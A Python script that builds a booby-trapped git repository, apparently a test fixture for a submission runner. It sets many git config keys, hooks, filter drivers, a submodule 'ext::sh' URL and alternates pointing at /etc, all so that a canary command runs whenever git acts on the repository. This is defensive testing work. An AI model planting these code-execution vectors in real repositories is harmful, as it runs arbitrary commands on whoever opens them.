"""Makes a repository that runs a program as soon as git does anything in it: python3 make.py DIRECTORY."""

import os
import pathlib
import subprocess
import sys

place = pathlib.Path(sys.argv[1])
repository = place / "armed"
canary = place.parent / "writable"  # watched by the runner
command = f"echo pwned > {canary}"
os.environ |= {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"}


def git(*words):
    subprocess.run(["git", "-C", repository, "-c", "user.name=Ada", "-c", "user.email=ada@example.com", *words], check=True, stdout=subprocess.DEVNULL)


(repository / "app").mkdir(parents=True)
(repository / "app/main.py").write_text("raise SystemExit(0)\n")
(repository / "submission.toml").write_text('[role.api]\ncommand = ["python", "app/main.py"]\n')
git("init", "--quiet", "--initial-branch=main")
git("add", ".")
git("commit", "--quiet", "--message", "the first commit of all")
for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "core.askPass", "core.gitProxy", "core.alternateRefsCommand",
            "filter.x.clean", "filter.x.smudge", "filter.x.process", "diff.x.command", "diff.x.textconv", "merge.x.driver",
            "credential.helper", "gpg.program", "uploadpack.packObjectsHook", "alias.log", "alias.status", "sequence.editor"):
    git("config", key, f"!{command}" if key.startswith(("alias", "credential")) else command)
git("config", "include.path", str(canary))
git("config", "core.worktree", str(place.parent))
git("config", "core.hooksPath", ".git/hooks")
git("config", "extensions.worktreeConfig", "true")
(repository / ".gitattributes").write_text("* filter=x diff=x merge=x export-subst\n")
(repository / ".gitmodules").write_text('[submodule "x"]\n\tpath = app\n\turl = ext::sh -c ' + command.replace(" ", "% ") + "\n")
hooks = repository / ".git/hooks"
for hook in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction", "pre-auto-gc", "fsmonitor-watchman", "post-rewrite"):
    (hooks / hook).write_text(f"#!/bin/sh\n{command}\n")
    (hooks / hook).chmod(0o755)
(repository / ".git/objects/info/alternates").write_text("/etc\n")
(repository / ".git/commondir").write_text("/etc\n")
canary.write_text("untouched")
